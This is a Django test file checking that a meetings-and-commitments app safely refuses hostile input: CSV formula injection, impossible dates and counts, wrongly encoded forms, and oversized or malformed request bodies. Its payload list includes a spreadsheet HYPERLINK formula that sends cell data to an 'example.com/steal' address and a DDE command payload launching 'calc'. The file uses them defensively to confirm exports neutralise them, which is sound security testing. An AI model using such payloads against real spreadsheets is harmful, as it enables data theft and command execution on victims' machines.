"""Input an attacker would try: formulas in CSV cells, numbers no date or column can hold, a
form in another character set, bodies too large or with too many parts. Each answers 400 (or
413, 405) with its reason, never a 500; the CSV opens as text in a spreadsheet."""

import csv
import io
import json

import pytest
from django.contrib import admin
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client

from meetings.models import Meeting
from tests.factories import CommitmentFactory, MechanismFactory, MeetingFactory

pytestmark = pytest.mark.django_db

HUGE = "9" * 30
MB = 1024 * 1024

# OWASP's list: what makes a spreadsheet read a cell as a formula.
FORMULAS = [
    '=HYPERLINK("http://example.com/steal?d="&A1,"Details")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "\tTab first",
    "\rCarriage return first",
]


# CSV export -----------------------------------------------------------------------------------


def exported(client) -> list[dict]:
    response = client.get("/commitments/export.csv")
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode("utf-8")
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_csv_cells_that_would_start_a_formula_are_written_as_text(viewer_client):
    for formula in FORMULAS:
        CommitmentFactory(
            title=formula,
            text=formula,
            target=formula,
            meeting=MeetingFactory(title=formula),
            mechanism=MechanismFactory(name=formula),
        )

    rows = exported(viewer_client)

    assert len(rows) == len(FORMULAS)
    for row in rows:
        for column in ("title", "text", "target", "meeting", "mechanism"):
            cell = row[column]
            assert cell.startswith("'"), (column, cell)
            assert cell[1:] in FORMULAS, (column, cell)


def test_csv_cells_that_start_otherwise_are_left_as_they_are(viewer_client):
    CommitmentFactory(
        title="Hold the dialogue - at an early date = soon",
        text="Plain text, with a comma and 'quotes'",
        paragraph="3",
    )

    (row,) = exported(viewer_client)

    assert row["title"] == "Hold the dialogue - at an early date = soon"
    assert row["text"] == "Plain text, with a comma and 'quotes'"
    assert row["paragraph"] == "3"
    assert int(row["id"]) > 0  # numbers stay numbers


# Filters ------------------------------------------------------------------------------------


@pytest.mark.parametrize("year", ["0", "-1", HUGE, "10000", "2024.5", "1e3", "MMXXIV"])
@pytest.mark.parametrize("path", ["/meetings/", "/api/v1/meetings/"])
def test_a_year_no_date_can_hold_is_refused_with_a_reason(viewer_client, path, year):
    response = viewer_client.get(path, {"year": year})

    # The API answers bad input 400, the pages 422 (the form shown again with its errors).
    assert response.status_code == (400 if path.startswith("/api/") else 422)
    if path.startswith("/api/"):
        assert response.json()["year"]
    else:
        assert response.context["filter"].form.errors["year"]


@pytest.mark.parametrize("path", ["/meetings/", "/api/v1/meetings/"])
def test_a_year_of_the_record_still_filters(viewer_client, path):
    MeetingFactory(title="Busan meeting")

    found = viewer_client.get(path, {"year": "2023"})
    none = viewer_client.get(path, {"year": "9999"})

    assert found.status_code == none.status_code == 200
    assert "Busan meeting" in found.content.decode()
    assert "Busan meeting" not in none.content.decode()


@pytest.mark.parametrize("value", [HUGE, str(2**31), "0", "1.5"])
@pytest.mark.parametrize("path", ["/commitments/", "/api/v1/commitments/"])
def test_a_reaffirmed_count_no_column_can_hold_is_refused_with_a_reason(viewer_client, path, value):
    response = viewer_client.get(path, {"reaffirmed_without_moving": value})

    assert response.status_code == (400 if path.startswith("/api/") else 422)
    assert "reaffirmed_without_moving" in (
        response.json() if path.startswith("/api/") else response.context["filter"].form.errors
    )


def test_the_csv_export_refuses_the_same_bad_filter(viewer_client):
    response = viewer_client.get("/commitments/export.csv", {"reaffirmed_without_moving": HUGE})

    assert response.status_code == 422


# The admin's date drill-down ----------------------------------------------------------------


@pytest.mark.parametrize(
    "query",
    [
        {"held_on__year": "9999"},
        {"held_on__year": HUGE},
        {"held_on__year": "0"},
        {"held_on__year": "-5"},
        {"held_on__year": "2024", "held_on__month": "13"},
        {"held_on__year": "2024", "held_on__month": "2", "held_on__day": "30"},
        {"held_on__year": "２０２４"},
    ],
)
def test_the_admin_refuses_a_drill_down_to_no_real_date_with_a_reason(manager_client, query):
    response = manager_client.get("/admin/meetings/meeting/", query)

    assert response.status_code == 400
    assert response.context["reason"]
    assert response.context["reason"] in response.content.decode()


def test_the_admin_drill_down_to_a_real_date_still_lists(manager_client):
    MeetingFactory(title="Busan meeting")

    response = manager_client.get(
        "/admin/meetings/meeting/",
        {"held_on__year": "2023", "held_on__month": "11", "held_on__day": "25"},
    )

    assert response.status_code == 200
    assert "Busan meeting" in response.content.decode()


def test_every_admin_list_with_a_date_drill_down_refuses_an_impossible_year(client, superuser):
    client.force_login(superuser)
    checked = 0
    for model, model_admin in admin.site._registry.items():
        if not model_admin.date_hierarchy:
            continue
        url = f"/admin/{model._meta.app_label}/{model._meta.model_name}/"
        response = client.get(url, {f"{model_admin.date_hierarchy}__year": HUGE})
        assert response.status_code == 400, url
        checked += 1
    assert checked >= 3  # meetings, commitments, updates


# Sign-in form in another character set ------------------------------------------------------


@pytest.mark.parametrize("enforce_csrf", [False, True], ids=["test-client", "as-browsers-are"])
def test_a_sign_in_post_in_latin_1_is_refused_with_a_reason(enforce_csrf):
    client = Client(enforce_csrf_checks=enforce_csrf)

    response = client.generic(
        "POST",
        "/accounts/login/",
        data="username=caf\xe9&password=x".encode("latin-1"),
        content_type="application/x-www-form-urlencoded; charset=latin-1",
    )

    assert response.status_code == 400
    assert "UTF-8" in response.content.decode()


def test_an_api_post_in_latin_1_with_a_session_is_refused_with_json(manager):
    client = Client(enforce_csrf_checks=True)
    client.force_login(manager)

    response = client.generic(
        "POST",
        "/api/v1/topics/",
        data=b"name=caf\xe9",
        content_type="application/x-www-form-urlencoded; charset=iso-8859-1",
    )

    assert response.status_code == 400
    assert "UTF-8" in response.json()["detail"]


# The dashboard API's other methods ----------------------------------------------------------


def test_the_dashboard_api_answers_head_and_options(viewer_client):
    head = viewer_client.head("/api/v1/dashboard/")
    options = viewer_client.options("/api/v1/dashboard/")

    assert head.status_code == 200
    assert head.content == b""
    assert options.status_code == 200
    assert options.json()["name"]


@pytest.mark.parametrize("method", ["head", "options"])
def test_the_dashboard_api_asks_the_same_of_head_and_options_as_of_get(outsider_client, method):
    anonymous = getattr(Client(), method)("/api/v1/dashboard/")
    no_role = getattr(outsider_client, method)("/api/v1/dashboard/")

    assert anonymous.status_code == 401
    assert no_role.status_code == 403


# Bodies -------------------------------------------------------------------------------------


class StreamedBody:
    """A multipart body of ``size`` bytes, made only as it is read: counts what was read."""

    HEAD = (
        b"--edge\r\n"
        b'Content-Disposition: form-data; name="file"; filename="big.txt"\r\n'
        b"Content-Type: text/plain\r\n\r\n"
    )

    def __init__(self, size: int):
        self.size = size
        self.read_so_far = 0

    def read(self, n: int = -1) -> bytes:
        left = self.size - self.read_so_far
        n = left if n is None or n < 0 else min(n, left)
        n = min(n, 64 * 1024)
        chunk = (self.HEAD + b"x" * n)[:n] if self.read_so_far == 0 else b"x" * n
        self.read_so_far += len(chunk)
        return chunk

    def readline(self, limit: int = -1) -> bytes:
        return self.read(limit)


@pytest.mark.parametrize("path", ["/accounts/login/", "/meetings/import/", "/api/v1/topics/"])
def test_a_200_mb_body_is_refused_before_it_is_read(manager_client, path):
    body = StreamedBody(200 * MB)

    response = manager_client.request(
        REQUEST_METHOD="POST",
        PATH_INFO=path,
        CONTENT_TYPE="multipart/form-data; boundary=edge",
        CONTENT_LENGTH=str(body.size),
        **{"wsgi.input": body},
    )

    assert response.status_code == 413
    assert body.read_so_far == 0
    message = response.json()["detail"] if path.startswith("/api/") else response.content.decode()
    assert "at most 3145728 bytes" in message


def test_a_body_under_the_limit_is_still_read(manager_client):
    response = manager_client.post("/meetings/import/", {"text": "a" * (2 * MB)})

    assert response.status_code == 422  # the import's own message: a readout is shorter
    assert Meeting.objects.count() == 0


def test_a_form_with_two_files_is_refused_with_a_reason(manager_client):
    response = manager_client.post(
        "/meetings/import/",
        {"file": [SimpleUploadedFile("a.txt", b"one"), SimpleUploadedFile("b.txt", b"two")]},
    )

    assert response.status_code == 400
    assert "more than 1 file" in response.content.decode()


def test_a_form_with_too_many_fields_is_refused_with_a_reason(manager_client):
    fields = "&".join(f"f{n}=x" for n in range(1001))

    response = manager_client.generic(
        "POST", "/meetings/import/", fields, content_type="application/x-www-form-urlencoded"
    )

    assert response.status_code == 400
    assert "more than 1000 fields" in response.content.decode()


def test_a_broken_multipart_form_is_refused_with_a_reason(manager_client):
    response = manager_client.generic(
        "POST",
        "/meetings/import/",
        b"--edge\r\nno headers at all",
        content_type="multipart/form-data; boundary=",
    )

    assert response.status_code == 400
    assert "could not be read" in response.content.decode()


def test_a_json_body_over_1_mb_is_refused_by_the_api_with_a_reason(manager_client):
    response = manager_client.post(
        "/api/v1/topics/",
        json.dumps({"name": "x" * (MB + 1), "slug": "x"}),
        content_type="application/json",
    )

    assert response.status_code == 400
    assert "exceeded" in response.json()["detail"]
